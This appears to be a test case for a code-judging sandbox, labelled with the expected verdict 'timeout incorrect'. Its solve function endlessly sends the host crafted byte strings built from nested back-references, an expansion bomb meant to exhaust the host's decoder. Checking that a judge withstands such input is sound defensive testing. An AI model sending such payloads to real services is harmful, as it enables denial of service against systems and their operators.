# Sends, without an end, few bytes that stand for a long text: each pair holds the next one, and then that again.
# verdict: timeout incorrect

import _host

LEVELS = 30
FORM = b"\xa9\x02" * LEVELS + b"\xa9\x00" + b"".join([b"r" + n.to_bytes(4, "little") for n in range(LEVELS, 0, -1)])
LONG = b"[\x64\x00\x00\x00\xfa\xff" + b"x" * 255 + b"r\x00\x00\x00\x00" * 99


def solve(xs):
    while True:
        _host.call(b"B" + LONG)
        _host.call(b"B" + FORM)
